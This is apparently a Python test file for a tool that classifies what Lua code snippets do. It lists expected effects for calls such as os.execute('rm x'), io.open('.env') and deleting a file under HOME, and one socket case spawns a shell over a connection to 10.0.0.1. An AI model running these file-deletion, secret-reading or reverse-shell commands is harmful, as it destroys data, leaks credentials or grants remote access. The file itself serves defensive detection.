"""Lua by its calls."""

from __future__ import annotations

from tests.shell.rows import code_rows

test_what_calls_do = code_rows(
    "lua",
    r"""
os.execute("rm x") => run lua [inline] · run rm x · write x [delete]
io.popen("rm x", "w") => run lua [inline] · run rm x · write x [delete]
io.open(".env") => run lua [inline] · read .env
io.open("x", "w") => run lua [inline] · write x
dofile "x.lua" => run lua [inline] · read x.lua
load("os.execute('rm x')")() => run lua [inline] · run rm x · write x [delete]
load(x) => run lua [inline] OPAQUE
local f = os.execute => run lua [inline] OPAQUE
f[k]("a") => run lua [inline] OPAQUE
-- os.execute("rm x") => run lua [inline]
os.execute("rm " .. "x") => run lua [inline] · run rm x · write x [delete]
x = "rm"; os.execute(x .. " y") => run lua [inline] · run rm y · write y [delete]
""",
)

test_sockets = code_rows(
    "lua",
    r"""
t:connect("10.0.0.1", "1"); os.execute("sh <&3") => run lua [inline] · connect 10.0.0.1 · run sh <network:10.0.0.1>
""",
)

test_home_folder = code_rows(
    "lua",
    r"""
os.remove(os.getenv("HOME") .. "/x") => run lua [inline] · write ~/x [delete]
""",
)
